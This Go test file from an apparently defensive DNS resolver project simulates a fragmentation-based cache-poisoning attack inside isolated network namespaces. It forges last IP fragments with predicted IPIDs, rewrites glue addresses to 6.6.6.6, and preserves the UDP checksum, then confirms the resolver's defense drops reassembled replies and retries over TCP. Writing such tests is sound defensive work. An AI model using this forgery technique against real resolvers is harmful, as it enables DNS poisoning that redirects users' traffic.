package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/bulwark-dns/bulwark/resolver/transport"
)

const (
	// fragMTU is the path MTU the attacker forces (threat model c7; the
	// kernel's min_pmtu is 552).
	fragMTU = 576
	// fragChunk is the IP payload of each fragment: a multiple of 8 that
	// fits fragMTU with a 20-byte header.
	fragChunk = 552
	// fragNS is how many NS records and glue addresses the referral-shaped
	// reply carries: enough that it spans three fragments and exceeds the
	// 1232 bytes the resolver advertises.
	fragNS = 40
	// fragIPIDBase is the first IPID of the server: from there it counts
	// up by one per reply, which is what the attacker knows.
	fragIPIDBase = 0x4200
	// fragName is the question of every FRAG-2 attempt.
	fragName = "www.bank.test."
)

var authAP = netip.AddrPortFrom(authIP, 53)

// TestFragmentForgeryDoesNotPoison is FRAG-2. The bank server ignores the
// EDNS size and answers with a 1,473-byte referral-shaped reply whose glue
// sits in its last fragment; the path MTU is locked at 576, and the server
// numbers its IP fragments with consecutive IPIDs. Before each query the
// attacker plants, for each of the next plantAhead IPIDs, a forged last
// fragment that rewrites every glue address in it to 6.6.6.6 and keeps the
// UDP checksum. Fragments carry no port, query ID or question, so the
// forgery needs none of them. Each run asks the transport (Client.Exchange
// over real sockets in the resolver's namespace) 50 times.
//
// The threat model's plan planted 64 IPIDs once, up front; measured here,
// that poisons 1 attempt in 50 even without the defense, because Linux
// drops a fragment queue once ipfrag_max_dist (64) other fragments from
// the same source have arrived since its last one. So the attacker keeps
// its queues fresh by re-planting a short window before every query.
func TestFragmentForgeryDoesNotPoison(t *testing.T) {
	const attempts, plantAhead = 50, 4
	for _, run := range fragRuns() {
		t.Run(run.mode, func(t *testing.T) {
			p := newNSPair(t, fragMTU)
			startFragAuth(t, p, 2*attempts, fragReply)
			ex := transport.NewExchanger(nsNetwork{th: p.r, inner: transport.NewSocketNetwork(transport.SocketConfig{})}, run.tcfg, nil)
			t.Cleanup(ex.Close)
			_, oks0, err := p.r.reasm()
			if err != nil {
				t.Fatal(err)
			}
			forger, err := newFragSender(p.a, attempts*plantAhead)
			if err != nil {
				t.Fatal(err)
			}
			defer forger.Close()
			tl := fragTally{attempts: attempts}
			end := time.Now().Add(20 * time.Second)
			for k := range attempts {
				tl.rewritten = plant(t, forger, fragName, fragReply, fragIPIDBase+k, plantAhead)
				tl.exchange(ex, end)
			}
			tl.forged = int(forger.sent.Load())
			_, oks1, err := p.r.reasm()
			if err != nil {
				t.Fatal(err)
			}
			tl.reasmOKs, tl.dropped = oks1-oks0, ex.Stats().ReassembledDropped
			t.Logf("RESULT FRAG-2 %s: %v", run.mode, tl)
			if tl.failed > 0 {
				t.Errorf("%d exchanges failed: %v", tl.failed, tl)
			}
			if run.on && (tl.poisoned > 0 || tl.tcp != attempts || tl.dropped != attempts) {
				t.Errorf("defense on: want 0 poisoned, every reassembled reply dropped and re-asked over TCP: %v", tl)
			}
			if !run.on && tl.poisoned < attempts-2 {
				t.Errorf("no teeth: without the defense the IPID is known, so (nearly) every attempt must be poisoned: %v", tl)
			}
		})
	}
}

// fragRun is one FRAG-2 configuration: the transport's, and whether the
// fragment defense is on in it.
type fragRun struct {
	mode string
	tcfg transport.Config
	on   bool
}

// fragRuns are FRAG-2's three runs: the defense alone, every default, and
// every defense off (the teeth).
func fragRuns() []fragRun {
	return []fragRun{
		{"defense-alone", fragDefenseAlone(), true},
		{"all-defaults", transport.Config{}, true},
		{"defense-off", defensesOff(transport.Config{}), false},
	}
}

// fragDefenseAlone switches off every defense but the one FRAG-2 tests.
func fragDefenseAlone() transport.Config {
	cfg := defensesOff(transport.Config{})
	cfg.AcceptFragments = false
	return cfg
}

// fragTally is what one FRAG-2 run measured.
type fragTally struct {
	attempts, poisoned, genuine, tcp, failed int
	forged, rewritten                        int
	reasmOKs                                 int64
	dropped                                  uint64
}

func (tl fragTally) String() string {
	return fmt.Sprintf("attempts=%d forged_fragments=%d (rewriting %d glue addresses each) poisoned=%d genuine=%d over_tcp=%d failed=%d reassembled_dropped=%d ReasmOKs=+%d",
		tl.attempts, tl.forged, tl.rewritten, tl.poisoned, tl.genuine, tl.tcp, tl.failed, tl.dropped, tl.reasmOKs)
}

// exchange asks fragName once, unless the time bound has passed.
func (tl *fragTally) exchange(ex *transport.Client, end time.Time) {
	if time.Now().After(end) {
		tl.failed++
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	r, err := ex.Exchange(ctx, transport.Query{Server: authAP, Name: fragName, Type: dns.TypeA, Class: dns.ClassINET})
	cancel()
	switch {
	case err != nil:
		tl.failed++
	case carries(r.Msg, forgedAddr):
		tl.poisoned++
	default:
		tl.genuine++
	}
	if err == nil && r.TCP {
		tl.tcp++
	}
}

// carries reports whether any section of m holds the A address addr.
func carries(m *dns.Msg, addr string) bool {
	for _, sec := range [][]dns.RR{m.Answer, m.Ns, m.Extra} {
		for _, rr := range sec {
			if a, ok := rr.(*dns.A); ok && a.A.String() == addr {
				return true
			}
		}
	}
	return false
}

// plant sends the attacker's forged last fragments of the reply that
// reply gives to qname, for the n IPIDs from first on, from the server's
// address, and returns how many addresses each rewrites.
func plant(t *testing.T, forger *fragSender, qname string, reply func(*dns.Msg) *dns.Msg, first, n int) (rewritten int) {
	t.Helper()
	for k := range n {
		pkt, rw, err := forgeLastFragment(qname, reply, uint16(first+k))
		if err != nil {
			t.Fatal(err)
		}
		if err := forger.send(pkt); err != nil {
			t.Fatal(err)
		}
		rewritten = rw
	}
	return rewritten
}

// fragReply is the bank server's answer: the address, then a referral's
// worth of NS records and glue. The zone's owner name keeps the query's
// letter case, so compression, and with it every byte after the question,
// is the same whatever case the resolver chose: the attacker can predict
// the last fragment exactly.
func fragReply(q *dns.Msg) *dns.Msg {
	r := new(dns.Msg)
	r.SetReply(q)
	r.Authoritative, r.Compress = true, true
	qname := q.Question[0].Name
	zone := qname[strings.IndexByte(qname, '.')+1:]
	hdr := func(name string, t uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: t, Class: dns.ClassINET, Ttl: 86400}
	}
	r.Answer = []dns.RR{&dns.A{Hdr: hdr(qname, dns.TypeA), A: net.ParseIP(genuineAddr)}}
	for i := range fragNS {
		host := fmt.Sprintf("ns%02d.bank-ns.example.", i)
		r.Ns = append(r.Ns, &dns.NS{Hdr: hdr(zone, dns.TypeNS), Ns: host})
		r.Extra = append(r.Extra, &dns.A{Hdr: hdr(host, dns.TypeA), A: net.IPv4(198, 51, 100, byte(i+1))})
	}
	r.SetEdns0(1232, false)
	return r
}

// forgeLastFragment is the attacker's fragment for ipid: the last
// fragment of the genuine reply that reply gives to qname, predicted from
// the zone's public data, with every address in 198.51.100.0/24 in it
// rewritten to forgedAddr and the low half of one TTL changed so that the
// one's-complement sum, and so the UDP checksum of the reassembled
// datagram, stays as it was. It also returns how many addresses it
// rewrote.
func forgeLastFragment(qname string, reply func(*dns.Msg) *dns.Msg, ipid uint16) ([]byte, int, error) {
	q := new(dns.Msg)
	q.SetQuestion(strings.ToLower(qname), dns.TypeA)
	q.SetEdns0(1232, false)
	wire, err := reply(q).Pack()
	if err != nil {
		return nil, 0, fmt.Errorf("pack the predicted reply to %s: %w", qname, err)
	}
	seg := append(make([]byte, 8), wire...)
	off := (len(seg) - 1) / fragChunk * fragChunk
	tail := append([]byte(nil), seg[off:]...)
	sum := onesSum(tail)
	rewritten, fix := 0, -1
	for i := 0; i+6 <= len(tail); i++ {
		if tail[i] == 0 && tail[i+1] == 4 && tail[i+2] == 198 && tail[i+3] == 51 && tail[i+4] == 100 {
			copy(tail[i+2:i+6], []byte{6, 6, 6, 6})
			rewritten++
			// off is a multiple of 8, so an even index here is an even
			// offset in the datagram: a whole checksum word.
			if i >= 2 && i%2 == 0 {
				fix = i - 2
			}
		}
	}
	if rewritten == 0 || fix < 0 {
		return nil, 0, fmt.Errorf("no address of %s to rewrite in the last fragment (%d bytes at %d)", qname, len(tail), off)
	}
	old := uint32(binary.BigEndian.Uint16(tail[fix:]))
	d := (sum + 0xffff - onesSum(tail)) % 0xffff
	binary.BigEndian.PutUint16(tail[fix:], uint16((old+d)%0xffff))
	return ipFragment(authIP, resolverIP, ipid, off, false, tail), rewritten, nil
}

// onesSum is the folded one's-complement sum of b as 16-bit words.
func onesSum(b []byte) uint32 {
	var s uint32
	for i := 0; i < len(b); i += 2 {
		w := uint32(b[i]) << 8
		if i+1 < len(b) {
			w |= uint32(b[i+1])
		}
		s += w
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return s
}

// ipFragment is one IPv4 packet holding data at byte offset off of a UDP
// datagram; more sets More Fragments. The kernel fills the header
// checksum.
func ipFragment(src, dst netip.Addr, ipid uint16, off int, more bool, data []byte) []byte {
	p := make([]byte, 20+len(data))
	p[0] = 0x45
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	binary.BigEndian.PutUint16(p[4:], ipid)
	fo := uint16(off / 8)
	if more {
		fo |= 0x2000
	}
	binary.BigEndian.PutUint16(p[6:], fo)
	p[8], p[9] = 64, unix.IPPROTO_UDP
	s, d := src.As4(), dst.As4()
	copy(p[12:16], s[:])
	copy(p[16:20], d[:])
	copy(p[20:], data)
	return p
}

// ipFragments cuts the UDP datagram carrying payload into fragChunk-sized
// IPv4 fragments numbered ipid, as the server's own stack would.
func ipFragments(src, dst netip.AddrPort, ipid uint16, payload []byte) [][]byte {
	buf := make([]byte, 28+len(payload))
	n := buildIPv4UDP(buf, src, dst, payload)
	seg := buf[20:n]
	var out [][]byte
	for off := 0; off < len(seg); off += fragChunk {
		end := min(off+fragChunk, len(seg))
		out = append(out, ipFragment(src.Addr(), dst.Addr(), ipid, off, end < len(seg), seg[off:end]))
	}
	return out
}

// fragSender sends hand-built IPv4 packets through a raw socket opened in
// a test namespace (threat model c4/c6), within a packet budget, and only
// to 198.18.0.0/15, which exists only inside the test's namespaces.
type fragSender struct {
	fd   int
	max  int64
	sent atomic.Int64
}

func newFragSender(th *nsThread, max int) (*fragSender, error) {
	var fd int
	var err error
	th.do(func() { fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW) })
	if err != nil {
		return nil, fmt.Errorf("raw socket: %w", err)
	}
	return &fragSender{fd: fd, max: int64(max)}, nil
}

func (s *fragSender) Close() error { return unix.Close(s.fd) }

func (s *fragSender) send(pkt []byte) error {
	dst := netip.AddrFrom4([4]byte(pkt[16:20]))
	if !benchNet.Contains(dst) {
		return fmt.Errorf("fragment sender: refusing to send to %s: only %s inside the test's namespaces", dst, benchNet)
	}
	if s.sent.Load() >= s.max {
		return errBudget
	}
	if err := unix.Sendto(s.fd, pkt, 0, &unix.SockaddrInet4{Addr: dst.As4()}); err != nil {
		return fmt.Errorf("fragment sender: sendto %s: %w", dst, err)
	}
	s.sent.Add(1)
	return nil
}

// fragAuth is a server in the attacker's namespace that fragments its UDP
// replies itself and numbers the fragmented ones with consecutive IPIDs
// from fragIPIDBase: the predictable counter the attack needs.
type fragAuth struct {
	reply func(*dns.Msg) *dns.Msg
	// next is the IPID of the next fragmented reply.
	next atomic.Uint32
}

// startFragAuth runs a fragAuth answering with reply in the attacker's
// namespace: over UDP it answers at most maxReplies queries, over TCP it
// sends the same replies whole.
func startFragAuth(t *testing.T, p *nsPair, maxReplies int, reply func(*dns.Msg) *dns.Msg) *fragAuth {
	t.Helper()
	var conn *net.UDPConn
	var l net.Listener
	var err error
	p.a.do(func() {
		if conn, err = net.ListenUDP("udp4", net.UDPAddrFromAddrPort(authAP)); err == nil {
			l, err = net.Listen("tcp4", authAP.String())
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	out, err := newFragSender(p.a, 4*maxReplies)
	if err != nil {
		t.Fatal(err)
	}
	a := &fragAuth{reply: reply}
	a.next.Store(fragIPIDBase)
	done := make(chan struct{})
	go a.serveFragments(conn, out, maxReplies, done)
	t.Cleanup(func() {
		_ = conn.Close()
		<-done
		_ = out.Close()
	})
	serveDNS(t, &dns.Server{Listener: l, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		if len(q.Question) == 1 {
			_ = w.WriteMsg(reply(q))
		}
	})})
	return a
}

// serveFragments answers up to max queries read from conn until it is
// closed. A reply that fits the path goes out in one packet and leaves the
// IPID counter alone.
func (a *fragAuth) serveFragments(conn *net.UDPConn, out *fragSender, max int, done chan struct{}) {
	defer close(done)
	buf := make([]byte, 1500)
	for range max {
		n, from, err := conn.ReadFromUDPAddrPort(buf)
		if err != nil {
			return
		}
		q := new(dns.Msg)
		if q.Unpack(buf[:n]) != nil || len(q.Question) != 1 {
			continue
		}
		wire, err := a.reply(q).Pack()
		if err != nil {
			continue
		}
		pkts := ipFragments(authAP, from, uint16(a.next.Load()), wire)
		for _, pkt := range pkts {
			if out.send(pkt) != nil {
				return
			}
		}
		if len(pkts) > 1 {
			a.next.Add(1)
		}
	}
}

// serveDNS starts srv on its listener or packet conn and shuts it down
// when the test ends.
func serveDNS(t *testing.T, srv *dns.Server) {
	t.Helper()
	started, done := make(chan struct{}), make(chan error, 1)
	srv.NotifyStartedFunc = func() { close(started) }
	go func() { done <- srv.ActivateAndServe() }()
	select {
	case <-started:
	case err := <-done:
		t.Fatalf("dns server: %v", err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.ShutdownContext(ctx)
		if err := <-done; err != nil && !errors.Is(err, net.ErrClosed) {
			t.Logf("dns server: %v", err)
		}
	})
}

// TestCompliantLargeAnswersNeverReassembled is FRAG-3: a server that
// honours the advertised 1232 bytes and sets TC above it, on a path whose
// MTU is locked at 1280 (the IPv6 minimum the 1232 default is derived
// from), answers 1,000 questions with 800 to 4,000 bytes of TXT records.
// No datagram may reach the resolver's namespace in fragments: the large
// ones go to TCP. The control run lets the same server ignore the EDNS
// size, to show the counter does see reassembly on this path.
func TestCompliantLargeAnswersNeverReassembled(t *testing.T) {
	const answers, control = 1000, 20
	p := newNSPair(t, 1280)
	var ignoreSize atomic.Bool
	startBigAuth(t, p, &ignoreSize)
	ex := transport.NewExchanger(nsNetwork{th: p.r, inner: transport.NewSocketNetwork(transport.SocketConfig{})}, transport.Config{}, nil)
	t.Cleanup(ex.Close)
	start := time.Now()
	main := askBig(t, p, ex, answers, func(i int) int { return 800 + i*7919%3200 })
	ignoreSize.Store(true)
	ctl := askBig(t, p, ex, control, func(int) int { return 2000 })
	t.Logf("RESULT FRAG-3 compliant: %v in %v | control, server ignoring the EDNS size: %v | reassembled_dropped=%d",
		main, time.Since(start).Round(time.Millisecond), ctl, ex.Stats().ReassembledDropped)
	if main.failed > 0 || main.reqds != 0 || main.oks != 0 || main.udp == 0 || main.tcp == 0 {
		t.Errorf("compliant server: want every answer, over UDP and TCP, and no fragment in the resolver's namespace: %v", main)
	}
	if ctl.oks != control {
		t.Errorf("control: want %d reassembled datagrams counted, the counter is blind otherwise: %v", control, ctl)
	}
}

// bigTally is what one batch of FRAG-3 questions measured.
type bigTally struct {
	asked, udp, tcp, failed int
	reqds, oks              int64
}

func (b bigTally) String() string {
	return fmt.Sprintf("answers=%d over_udp=%d over_tcp=%d failed=%d ReasmReqds=+%d ReasmOKs=+%d",
		b.asked, b.udp, b.tcp, b.failed, b.reqds, b.oks)
}

// askBig asks n questions whose answers have size(i) bytes, within 20 s,
// and reads the reassembly counters around them.
func askBig(t *testing.T, p *nsPair, ex *transport.Client, n int, size func(int) int) bigTally {
	t.Helper()
	req0, oks0, err := p.r.reasm()
	if err != nil {
		t.Fatal(err)
	}
	b := bigTally{asked: n}
	end := time.Now().Add(20 * time.Second)
	for i := range n {
		if time.Now().After(end) {
			b.failed++
			continue
		}
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		r, err := ex.Exchange(ctx, transport.Query{Server: authAP, Name: fmt.Sprintf("s%d.q%d.big.test.", size(i), i), Type: dns.TypeTXT, Class: dns.ClassINET})
		cancel()
		switch {
		case err != nil || len(r.Msg.Answer) == 0:
			b.failed++
		case r.TCP:
			b.tcp++
		default:
			b.udp++
		}
	}
	req1, oks1, err := p.r.reasm()
	if err != nil {
		t.Fatal(err)
	}
	b.reqds, b.oks = req1-req0, oks1-oks0
	return b
}

// startBigAuth runs the FRAG-3 server over UDP and TCP in the
// authoritative namespace. The first label of the question, s<bytes>,
// says how large the answer is.
func startBigAuth(t *testing.T, p *nsPair, ignoreSize *atomic.Bool) {
	t.Helper()
	var pc net.PacketConn
	var l net.Listener
	var err error
	p.a.do(func() {
		if pc, err = net.ListenPacket("udp4", authAP.String()); err == nil {
			l, err = net.Listen("tcp4", authAP.String())
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	h := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) { _ = w.WriteMsg(bigReply(w, q, ignoreSize.Load())) })
	serveDNS(t, &dns.Server{PacketConn: pc, Handler: h})
	serveDNS(t, &dns.Server{Listener: l, Handler: h})
}

// bigReply answers with TXT records up to the size the question asks for,
// truncated to the client's EDNS size over UDP unless ignoreSize.
func bigReply(w dns.ResponseWriter, q *dns.Msg, ignoreSize bool) *dns.Msg {
	r := new(dns.Msg)
	r.SetReply(q)
	r.Authoritative = true
	if len(q.Question) != 1 {
		return r
	}
	limit := 512
	if o := q.IsEdns0(); o != nil {
		limit = max(limit, int(o.UDPSize()))
		r.SetEdns0(1232, false)
	}
	qname := q.Question[0].Name
	size, _ := strconv.Atoi(strings.TrimPrefix(strings.ToLower(qname[:strings.IndexByte(qname, '.')]), "s"))
	for r.Len() < size && len(r.Answer) < 64 {
		r.Answer = append(r.Answer, &dns.TXT{
			Hdr: dns.RR_Header{Name: qname, Rrtype: dns.TypeTXT, Class: dns.ClassINET, Ttl: 300},
			Txt: []string{strings.Repeat("x", 200)},
		})
	}
	if _, udp := w.RemoteAddr().(*net.UDPAddr); udp && !ignoreSize && r.Len() > limit {
		r.Answer, r.Truncated = nil, true
	}
	return r
}
